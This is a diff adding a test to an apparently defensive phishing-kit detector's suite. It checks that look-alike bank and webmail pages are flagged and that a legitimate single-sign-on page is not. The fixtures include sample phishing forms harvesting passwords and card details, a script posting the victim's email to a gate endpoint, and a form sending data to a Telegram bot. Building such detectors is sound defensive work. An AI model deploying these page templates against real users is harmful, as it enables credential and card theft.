@@ -359,6 +359,18 @@ describe('analysis: signal rules', () => {
       assert.equal(status.result.verdict, 'clean');
     });
 
+    it('a page calling itself by another site\'s name counts as not its host\'s own for the kit combinations: a bank\'s name asking card and password, a webmail spelled as the domain it returns to', () => {
+      const card = '<form method="post"><label>Identifiant <input name="user"></label><label>Mot de passe <input type="password" name="password"></label><label>Numéro de carte <input name="cardnumber" autocomplete="cc-number"></label><label>Date d\'expiration <input autocomplete="cc-exp"></label><label>Cryptogramme <input name="cvv"></label><button>Valider</button></form>';
+      const bank = kit('https://orbibank-particuliers.example/fr/connexion/', `<title>Orbibank - Espace Particuliers</title><h1>Orbibank</h1>${card}<a href="https://www.orbibank.example/aide">Aide</a>`);
+      assert.ok(bank.result.decidedBy?.includes('combo:card-with-password'), JSON.stringify(bank.signals.map((x) => x.id)));
+      // The host spells the domain the page names and returns to: "Mail @ post.example" on mail.post-example.online.
+      const webmail = kit('https://mail.post-example.online/login?email=a%40post.example', '<title>Mail @ post.example</title><h1>post.example</h1><form method="post"><input name="email"><input type="password" name="pass"><button>Sign in</button></form><script>var q=new URLSearchParams(location.search).get("email");fetch("/gate.php",{method:"POST",body:q});setTimeout(function(){location.href="https://mail.post.example/"},9000)</script>');
+      assert.ok(has(webmail.signals, 'name-owned-elsewhere'), JSON.stringify(webmail.signals.map((x) => x.id)));
+      // A sign-in method named after another service on a host that does not spell it is no look-alike.
+      const method = kit('https://www.tax-office.example/login', '<title>e-Office | Login.sso.example</title><h1>e-Office</h1><p>Sign in with Login.sso.example</p><a href="https://login.sso.example/">Login.sso.example</a>');
+      assert.ok(!has(method.signals, 'name-owned-elsewhere'), JSON.stringify(method.signals.map((x) => x.id)));
+    });
+
     it('credential fields posted to a chat bot are a kit even on a page that names its host; a contact form sent to the same bot is not', () => {
       const bot = '<script>document.forms[0].onsubmit=function(){fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST",body:JSON.stringify({chat_id:1,text:"x"})});return false}</script>';
       const named = kit('https://pesopay-upgrade.example/upgrade/', `<title>PesoPay</title><h1>PesoPay</h1><form><input name="mobile" placeholder="Mobile number"><input type="password" name="mpin" placeholder="MPIN"><input name="otp" autocomplete="one-time-code"><button>Upgrade</button></form>${bot}<footer>© 2026 PesoPay</footer>`);
